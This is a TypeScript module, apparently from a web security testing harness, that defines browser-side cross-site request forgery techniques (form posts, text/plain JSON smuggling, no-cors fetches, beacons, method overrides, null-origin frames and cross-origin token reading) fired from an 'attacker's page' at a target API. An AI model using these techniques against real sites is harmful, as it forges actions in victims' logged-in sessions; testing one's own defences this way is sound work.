import type { CsrfProfile } from '../../harness/security-profile.ts';
import type { Call } from '../walker/call.ts';

/** What the code in the attacker's page is given. Everything in it is known to an attacker, or guessed. */
export interface Shot {
  readonly method: string;
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | undefined;
  readonly fields: Readonly<Record<string, string>>;
  readonly tokenUrl: string;
  readonly tokenHeader: string;
  readonly tokenMember: string;
  /** A token that is valid for the attacker's own session. */
  readonly ownToken: string;
}

export interface Technique {
  readonly id: string;
  /** As a sentence's end: "… by <does>". */
  readonly does: string;
  /** Runs inside the attacker's page; resolves when the browser is done with it, whatever came back. */
  readonly fire: (shot: Shot, tools: Tools) => Promise<void>;
}

export interface Tools {
  /** Posts a form into a frame of its own; resolves when the frame has loaded whatever was answered. */
  postForm(url: string, enctype: string, fields: Readonly<Record<string, string>>): Promise<void>;
}

/** For the attacker's page as well. */
export const postForm: Tools['postForm'] = (url, enctype, fields) => {
  const frame = document.createElement('iframe');
  const form = document.createElement('form');
  frame.name = `frame-${Math.random()}`;
  Object.assign(form, { method: 'post', action: url, enctype, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input');
    Object.assign(input, { type: 'hidden', name, value });
    form.append(input);
  }
  return new Promise((resolve) => {
    document.body.append(frame, form);
    frame.addEventListener('load', () => resolve());
    setTimeout(resolve, 5_000);
    form.submit();
  });
};

export function shotOf(call: Call, target: string, csrf: CsrfProfile, ownToken: string): Shot {
  return {
    method: call.operation.method,
    url: new URL(call.path, target).href,
    headers: call.headers,
    body: call.body && JSON.stringify(call.body),
    fields: Object.fromEntries(Object.entries(call.body ?? {}).map(([key, value]) => [key, String(value)])),
    tokenUrl: new URL(csrf.tokenPath, target).href,
    tokenHeader: csrf.header,
    tokenMember: csrf.tokenMember,
    ownToken,
  };
}

/**
 * What a page can make a browser send. The functions are handed to the browser as source: they use nothing from outside.
 * Simple requests (forms, no-cors) reach the system whatever CORS says; the others show what its CORS answers allow.
 */
export const techniques: readonly Technique[] = [
  {
    id: 'form-urlencoded',
    does: 'a form post',
    fire: (shot, { postForm }) =>
      postForm(shot.url, 'application/x-www-form-urlencoded', {
        ...shot.fields,
        ...shot.headers,
        _csrf: shot.ownToken,
        [shot.tokenHeader]: shot.ownToken,
      }),
  },
  {
    id: 'form-multipart',
    does: 'a multipart form post with a method override',
    fire: (shot, { postForm }) =>
      postForm(`${shot.url}${shot.url.includes('?') ? '&' : '?'}_method=${shot.method}`, 'multipart/form-data', {
        ...shot.fields,
        _method: shot.method,
        _csrf: shot.ownToken,
      }),
  },
  {
    id: 'form-text-json',
    does: 'a text/plain form post whose one field reads as JSON',
    fire: (shot, { postForm }) => {
      // The browser writes name=value: the JSON is cut at an equals sign, or is given one in a member of its own.
      const body = shot.body ?? '{}';
      const at = body.indexOf('=');
      if (at >= 0) return postForm(shot.url, 'text/plain', { [body.slice(0, at)]: body.slice(at + 1) });
      return postForm(shot.url, 'text/plain', { [`${body.slice(0, -1)}${body === '{}' ? '' : ','}"_":"`]: '"}' });
    },
  },
  {
    id: 'fetch-no-cors',
    does: 'a no-cors fetch with a JSON body as text/plain',
    fire: async (shot) => {
      const type = 'text/plain;application/json';
      const init = { mode: 'no-cors', credentials: 'include', method: 'POST', body: shot.body ?? '{}' } as const;
      await Promise.allSettled([
        fetch(shot.url, { ...init, headers: { 'content-type': type } }),
        fetch(shot.url, { ...init, headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
        // A body without a type: what does the system take it for?
        fetch(shot.url, { ...init, body: new Blob([shot.body ?? '{}']) }),
      ]);
    },
  },
  {
    id: 'beacon',
    does: 'a beacon',
    fire: async (shot) => {
      navigator.sendBeacon(shot.url, new Blob([shot.body ?? '{}'], { type: 'text/plain' }));
      // A beacon tells nobody when it is done; a request to the same place after it does, near enough to look.
      await fetch(shot.tokenUrl, { mode: 'no-cors', credentials: 'include' }).catch(() => undefined);
    },
  },
  {
    id: 'fetch-json',
    does: 'a cross-origin fetch with its real method, a JSON body and the attacker’s own token',
    fire: async (shot) => {
      const headers = { ...shot.headers, 'content-type': 'application/json', [shot.tokenHeader]: shot.ownToken };
      const init = { mode: 'cors', credentials: 'include', method: shot.method } as const;
      const body = shot.body === undefined ? {} : { body: shot.body };
      await Promise.allSettled([
        fetch(shot.url, { ...init, ...body, headers }),
        fetch(shot.url, { ...init, ...body, headers: { ...shot.headers, 'content-type': 'application/json' } }),
      ]);
    },
  },
  {
    id: 'token-theft',
    does: 'reading the token across origins, then a fetch with it',
    fire: async (shot) => {
      const token = await fetch(shot.tokenUrl, { credentials: 'include' })
        .then((answer) => answer.json())
        .then((session) => String(session[shot.tokenMember]))
        .catch(() => 'not to be had');
      const headers = { ...shot.headers, 'content-type': 'application/json', [shot.tokenHeader]: token };
      const body = shot.body === undefined ? {} : { body: shot.body };
      await fetch(shot.url, { credentials: 'include', method: shot.method, headers, ...body }).catch(() => undefined);
    },
  },
  {
    id: 'method-override',
    does: 'a fetch of another method that asks to be taken for the real one',
    fire: async (shot) => {
      const join = shot.url.includes('?') ? '&' : '?';
      const override = { 'x-http-method-override': shot.method, 'content-type': 'application/json', ...shot.headers };
      await Promise.allSettled([
        fetch(`${shot.url}${join}_method=${shot.method}`, { mode: 'no-cors', credentials: 'include' }),
        fetch(shot.url, { credentials: 'include', method: 'POST', headers: override, body: shot.body ?? '{}' }),
        ...['PUT', 'DELETE', 'PATCH'].map((method) => fetch(shot.url, { credentials: 'include', method })),
      ]);
    },
  },
  {
    id: 'image',
    does: 'an image and a script with the operation’s address',
    fire: async (shot) => {
      const join = shot.url.includes('?') ? '&' : '?';
      const url = `${shot.url}${join}${new URLSearchParams({ ...shot.fields, _method: shot.method })}`;
      const elements = [document.createElement('img'), document.createElement('script')];
      await Promise.all(
        elements.map(
          (element) =>
            new Promise<void>((resolve) => {
              element.addEventListener('load', () => resolve());
              element.addEventListener('error', () => resolve());
              setTimeout(resolve, 5_000);
              element.src = url;
              document.body.append(element);
            }),
        ),
      );
    },
  },
  {
    id: 'null-origin',
    does: 'a fetch from a sandboxed frame, whose Origin is null',
    fire: (shot) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      const init = { mode: 'no-cors', credentials: 'include', method: 'POST', body: shot.body ?? '{}' };
      const script = `fetch(${JSON.stringify(shot.url)}, ${JSON.stringify(init)}).catch(() => 0).then(() => parent.postMessage('done', '*'))`;
      frame.srcdoc = `<script>${script.replaceAll('<', '\\u003c')}</script>`;
      return new Promise((resolve) => {
        addEventListener('message', ({ source }) => source === frame.contentWindow && resolve());
        setTimeout(resolve, 5_000);
        document.body.append(frame);
      });
    },
  },
];
